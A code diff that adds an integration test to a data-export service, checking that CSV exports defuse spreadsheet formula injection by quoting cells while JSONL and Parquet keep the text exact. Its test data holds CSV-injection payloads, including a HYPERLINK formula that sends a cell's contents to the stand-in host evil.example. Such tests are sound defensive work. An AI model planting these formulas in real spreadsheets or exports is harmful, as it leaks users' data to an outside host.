@@ -117,3 +117,39 @@ def _rows(file_format: str, content: bytes) -> list[dict]:
     if file_format == "csv":
         return pa_csv.read_csv(io.BytesIO(content)).to_pylist()
     return [json.loads(line) for line in content.decode().splitlines() if line.strip()]
+
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_that_begin_like_a_formula_are_quoted_and_jsonl_parquet_stay_exact(jobs_settings, clickhouse_server):
+    """OWASP's CSV injection advice: in CSV a leading ', in JSONL and Parquet the stored text as it is."""
+    from warehouse.client import get_client
+
+    with session_scope(jobs_settings) as session:
+        created = create_project(session, f"export formulas {uuid.uuid4().hex[:6]}")
+        session.add(ContentSet(project_id=created.project.id, key="notes", signal_type=SignalType.message))
+    events = RawEvents(project_id=created.project.id)
+    for hour, formula in enumerate(FORMULAS):
+        events.create("message", DAY + dt.timedelta(hours=hour), content_set="notes", content_key=formula, message=formula, visitor_id=formula)
+        events.rows[-1][13] = formula  # contact_email
+        events.rows[-1][12] = ["ok"]  # tags
+    events.create("message", DAY + dt.timedelta(hours=9), content_set="notes", content_key="/plain", message="a = b, + c - d @ e", visitor_id="v-plain")
+    client = get_client(jobs_settings)
+    events.insert(client)
+    client.close()
+    api = TestClient(create_app(jobs_settings))
+
+    csv = _export(api, created, {"format": "csv"})
+    text = api.get(csv["download_url"]).content
+    rows = pa_csv.read_csv(io.BytesIO(text), convert_options=pa_csv.ConvertOptions(strings_can_be_null=False)).to_pylist()
+    assert [row["message"] for row in rows] == [f"'{formula}" for formula in FORMULAS] + ["a = b, + c - d @ e"]
+    for row, formula in zip(rows, FORMULAS):
+        assert row["content_key"] == row["contact_email"] == row["visitor_id"] == f"'{formula}"
+    assert [row["tags"] for row in rows] == ['["ok"]'] * len(FORMULAS) + ["[]"]
+
+    for file_format in ("jsonl", "parquet"):
+        export = _export(api, created, {"format": file_format})
+        exact = _rows(file_format, api.get(export["download_url"]).content)
+        assert [row["message"] for row in exact] == [*FORMULAS, "a = b, + c - d @ e"]
+        assert [row["content_key"] for row in exact][:-1] == [row["contact_email"] for row in exact][:-1] == FORMULAS
